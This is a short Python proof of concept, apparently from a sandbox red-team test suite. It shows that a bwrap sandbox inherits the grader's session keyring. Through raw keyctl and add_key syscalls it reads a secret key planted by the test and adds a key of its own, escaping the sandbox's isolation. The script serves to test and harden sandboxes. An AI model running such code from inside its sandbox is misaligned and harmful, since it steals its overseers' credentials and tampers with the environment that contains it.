# Attack: bwrap gives the sandbox no keyring of its own: the grader's session keyring is inherited.
# Read the secret key the test put there (as a login with pam_keyinit would) and plant a key in it.
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
SYS_ADD_KEY, SYS_KEYCTL = 248, 250                      # x86_64
KEYCTL_GET_KEYRING_ID, KEYCTL_SEARCH, KEYCTL_READ = 0, 10, 11
SESSION = -3
print("SESSION KEYRING", libc.syscall(SYS_KEYCTL, KEYCTL_GET_KEYRING_ID, SESSION, 0), flush=True)
key = libc.syscall(SYS_KEYCTL, KEYCTL_SEARCH, SESSION, b"user", b"redteam-secret", 0)
if key > 0:
    buffer = ctypes.create_string_buffer(256)
    size = libc.syscall(SYS_KEYCTL, KEYCTL_READ, key, buffer, 256)
    print("KEY READ", buffer.raw[:max(size, 0)].decode(errors="replace"), flush=True)
else:
    print("no secret key found, errno", ctypes.get_errno(), flush=True)
planted = libc.syscall(SYS_ADD_KEY, b"user", b"redteam-planted", b"from the sandbox", 16, SESSION)
print("KEY PLANTED" if planted > 0 else f"could not plant a key, errno {ctypes.get_errno()}", flush=True)
